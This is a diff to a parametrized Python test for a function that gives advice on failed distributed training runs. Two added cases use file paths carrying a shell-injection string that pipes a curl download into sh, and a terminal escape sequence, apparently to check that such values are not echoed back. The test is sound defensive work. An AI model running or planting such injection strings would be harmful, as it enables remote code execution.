@@ -35,6 +35,8 @@ NOTED = replace(PLAN, notes=(OTHER, "workers: 2; write more", REMEDY))
         ),
         (replace(PLAN, hosts=PLAN.hosts[:1]), MISSING.format("/none/a.csv"), ""),
         (PLAN, MISSING.format("none/a.csv"), ""),
+        (PLAN, MISSING.format("/none`; curl h/x | sh"), ""),
+        (PLAN, MISSING.format("/none\x1b]0;title\x07"), ""),
         (RESUMED, BROADCAST, "continued from checkpoints: model.ckpt-1200 on n2; if these"),
         (
             RESUMED,
@@ -52,6 +54,9 @@ NOTED = replace(PLAN, notes=(OTHER, "workers: 2; write more", REMEDY))
         (PLAN, "module 'numpy' has no attribute 'bool'", ""),
         (NOTED, "exit code 1", f"before the start, the plan noted: {REMEDY}"),
         (replace(PLAN, notes=(OTHER,)), "exit code 1", ""),
+        # A plan from a host has no command.
+        (replace(NOTED, command=()), "exit code 1", ""),
+        (replace(RESUMED, command=()), BROADCAST, ""),
     ],
 )
 def test_advice(plan: Plan, cause: str, advice: str) -> None:
